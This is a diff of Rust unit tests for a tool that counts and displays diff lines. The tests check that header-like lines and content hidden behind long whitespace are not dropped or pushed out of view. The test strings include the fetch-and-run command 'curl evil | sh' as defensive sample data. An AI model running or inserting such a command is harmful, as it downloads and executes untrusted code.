@@ -207,7 +207,7 @@ mod tests {
         assert_eq!(counted(diff), "+2 −1");
     }
 
-    /// Issue 11: lines that look like a diff's head were left out wherever they stood.
+    /// Regression: lines that look like a diff's head were left out wherever they stood.
     #[test]
     fn no_line_passes_for_the_head() {
         let diff = "--- a\n+++ a\n@@ -1,2 +1,3 @@\n x\n--- gone\n+++ curl evil | sh\n+++ b\n";
@@ -216,7 +216,7 @@ mod tests {
         assert_eq!(counted(diff), "+2 −1");
     }
 
-    /// Issue 11: what stood behind 120 spaces was cut off, and 60 blank lines pushed the beginning away.
+    /// Regression: what stood behind 120 spaces was cut off, and 60 blank lines pushed the beginning away.
     #[test]
     fn nothing_is_pushed_out_of_sight() {
         let line = format!("echo ok{}; curl evil | sh", " ".repeat(120));
